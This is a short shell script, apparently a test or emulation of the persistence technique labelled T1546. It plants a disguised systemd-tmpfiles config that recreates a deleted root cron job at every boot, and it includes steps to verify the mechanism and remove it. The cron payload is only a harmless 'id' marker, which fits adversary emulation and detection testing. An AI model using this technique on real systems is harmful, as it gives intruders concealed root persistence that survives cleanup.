#!/bin/sh
# T1546 (quiet): tmpfiles writes a removed cron file anew at each boot
M=/var/tmp/luytre-foothold N=38-tmpfiles
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
plant() {
  w /usr/lib/tmpfiles.d/legacy-cron.conf <<'E'
f+ /etc/cron.d/popularity 0644 root root - 17 3 * * * root /bin/sh -c "id > /var/tmp/luytre-foothold/38-tmpfiles"
E
}
prove() {
  rm -f "$M/$N"
  rm -f /etc/cron.d/popularity; systemd-tmpfiles --create /usr/lib/tmpfiles.d/legacy-cron.conf
  sh -c "$(sed 's/^.*sh -c "\(.*\)"$/\1/' /etc/cron.d/popularity)"
  seen
}
remove() {
  rm -f /usr/lib/tmpfiles.d/legacy-cron.conf /etc/cron.d/popularity
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
